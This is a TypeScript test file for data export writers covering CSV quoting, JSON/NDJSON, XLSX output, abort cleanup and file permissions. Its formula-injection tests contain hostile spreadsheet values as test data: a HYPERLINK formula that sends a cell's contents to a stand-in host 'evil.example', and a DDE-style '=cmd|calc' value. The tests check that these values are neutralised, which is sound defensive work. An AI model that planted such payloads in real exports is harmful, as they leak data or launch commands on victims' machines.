import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { ResultShaper } from '@common/query/result-set'
import { csvField, csvRecord } from '../../../../../main/dataverse/export/csv'
import { createExportWriter } from '../../../../../main/dataverse/export/writer'
import { parseCsv } from '../../../../support/parse-csv'

const F = '@OData.Community.Display.V1.FormattedValue'

function pages() {
  const shaper = new ResultShaper(['name', 'industrycode', 'revenue'])
  return [
    shaper.shape([
      { name: 'Contoso, Ltd.', industrycode: 1, [`industrycode${F}`]: 'Accounting', revenue: 1000.5, accountid: 'a1' },
      { name: 'He said "hi"\r\nthen left', industrycode: null, revenue: null, accountid: 'a2' },
    ]),
    shaper.shape([
      {
        name: 'Société Générale — 株式会社',
        industrycode: 2,
        [`industrycode${F}`]: 'Agriculture',
        revenue: 0,
        accountid: 'a3',
      },
    ]),
  ]
}

describe('export writers', () => {
  let dir: string
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'dvw-export-'))
  })
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true })
  })

  it('quotes CSV fields per RFC 4180', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "x"')).toBe('"say ""x"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField(' padded')).toBe('" padded"')
    expect(csvField(null)).toBe('')
    expect(csvField(false)).toBe('false')
    expect(csvField(1.5)).toBe('1.5')
  })

  it('writes CSV with a UTF-8 BOM, CRLF records, a header and formatted columns, page by page', async () => {
    const path = join(dir, 'accounts.csv')
    const writer = createExportWriter('csv', path)
    for (const page of pages()) await writer.writePage(page)
    const result = await writer.finish()
    const bytes = await readFile(path)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const records = parseCsv(bytes.toString('utf8').slice(1))
    expect(records).toEqual([
      ['name', 'industrycode', 'industrycode (formatted)', 'revenue', 'accountid'],
      ['Contoso, Ltd.', '1', 'Accounting', '1000.5', 'a1'],
      ['He said "hi"\r\nthen left', '', '', '', 'a2'],
      ['Société Générale — 株式会社', '2', 'Agriculture', '0', 'a3'],
    ])
    expect(result).toMatchObject({ rows: 3, format: 'csv', droppedColumns: [], bytes: bytes.length })
  })

  it('reports columns that first appear after the CSV header was written', async () => {
    const shaper = new ResultShaper()
    const writer = createExportWriter('csv', join(dir, 'x.csv'))
    await writer.writePage(shaper.shape([{ a: 1 }]))
    await writer.writePage(shaper.shape([{ a: 2, late: 'x' }]))
    const result = await writer.finish()
    expect(result.droppedColumns).toEqual(['late'])
    expect(parseCsv((await readFile(join(dir, 'x.csv'), 'utf8')).slice(1))).toEqual([['a'], ['1'], ['2']])
  })

  it('writes JSON as one array and NDJSON as one object per line, with formatted values as annotations', async () => {
    for (const format of ['json', 'ndjson'] as const) {
      const path = join(dir, `out.${format}`)
      const writer = createExportWriter(format, path)
      for (const page of pages()) await writer.writePage(page)
      await writer.finish()
      const text = await readFile(path, 'utf8')
      const rows =
        format === 'json'
          ? (JSON.parse(text) as unknown[])
          : text
              .trim()
              .split('\n')
              .map((line) => JSON.parse(line) as unknown)
      expect(rows).toHaveLength(3)
      expect(rows[0]).toEqual({
        name: 'Contoso, Ltd.',
        industrycode: 1,
        [`industrycode${F}`]: 'Accounting',
        revenue: 1000.5,
        accountid: 'a1',
      })
    }
    const empty = createExportWriter('json', join(dir, 'empty.json'))
    await empty.finish()
    expect(JSON.parse(await readFile(join(dir, 'empty.json'), 'utf8'))).toEqual([])
  })

  it('writes XLSX that exceljs reads back with typed cells and a bold header', async () => {
    const path = join(dir, 'accounts.xlsx')
    const writer = createExportWriter('xlsx', path, { sheetName: 'accounts' })
    for (const page of pages()) await writer.writePage(page)
    await writer.finish()
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.readFile(path)
    const sheet = workbook.getWorksheet('accounts')!
    const values = (row: number) => (sheet.getRow(row).values as unknown[]).slice(1)
    expect(values(1)).toEqual(['name', 'industrycode', 'industrycode (formatted)', 'revenue', 'accountid'])
    expect(sheet.getRow(1).font?.bold).toBe(true)
    expect(values(2)).toEqual(['Contoso, Ltd.', 1, 'Accounting', 1000.5, 'a1'])
    expect(values(4)).toEqual(['Société Générale — 株式会社', 2, 'Agriculture', 0, 'a3'])
    expect(sheet.rowCount).toBe(4)
  })

  it('leaves no file behind when an export is aborted', async () => {
    for (const format of ['csv', 'json', 'xlsx'] as const) {
      const writer = createExportWriter(format, join(dir, `aborted.${format}`))
      await writer.writePage(pages()[0]!)
      await writer.abort()
    }
    expect(await readdir(dir)).toEqual([])
  })

  it('L9 neutralises text cells that start with = + - @ tab or CR, and leaves numbers alone', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
      'Contoso',
      '+1-555',
      '@SUM(1+1)',
      '-2+3',
      '\t=1',
      '\r=1',
    ]
    expect(csvRecord(hostile)).toBe(
      `"'=HYPERLINK(""https://evil.example/?d=""&B2,""Click"")",Contoso,'+1-555,'@SUM(1+1),'-2+3,'\t=1,"'\r=1"\r\n`,
    )
    expect(csvRecord([-2, 3.5, 0, null, true])).toBe('-2,3.5,0,,true\r\n')
    expect(csvField('a=b')).toBe('a=b')
  })

  it('L9 writes formulas as they are when the caller opts out with csvFormulas raw', async () => {
    expect(csvRecord(['=1+1', -1], 'raw')).toBe('=1+1,-1\r\n')
    const shaper = new ResultShaper(['name'])
    const page = shaper.shape([{ name: '=cmd|calc', accountid: 'a1' }])
    for (const [formulas, expected] of [
      [undefined, "'=cmd|calc"],
      ['raw', '=cmd|calc'],
    ] as const) {
      const path = join(dir, `formulas-${formulas ?? 'default'}.csv`)
      const writer = createExportWriter('csv', path, {
        includeFormatted: false,
        ...(formulas ? { csvFormulas: formulas } : {}),
      })
      await writer.writePage(page)
      await writer.finish()
      expect(parseCsv((await readFile(path, 'utf8')).slice(1))[1]?.[0]).toBe(expected)
    }
  })

  // POSIX permission bits do not exist on Windows (stat reports 0o666 whatever was asked).
  it.skipIf(process.platform === 'win32')('L10 writes every export format readable by its owner only', async () => {
    // skipped on Windows: it keeps access in ACLs, not POSIX mode bits
    for (const format of ['csv', 'json', 'ndjson', 'xlsx'] as const) {
      const path = join(dir, `mode.${format}`)
      const writer = createExportWriter(format, path)
      for (const page of pages()) await writer.writePage(page)
      await writer.finish()
      expect((await stat(path)).mode & 0o777, format).toBe(0o600)
    }
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.readFile(join(dir, 'mode.xlsx'))
    expect(workbook.worksheets[0]?.rowCount).toBe(4)
  })
})
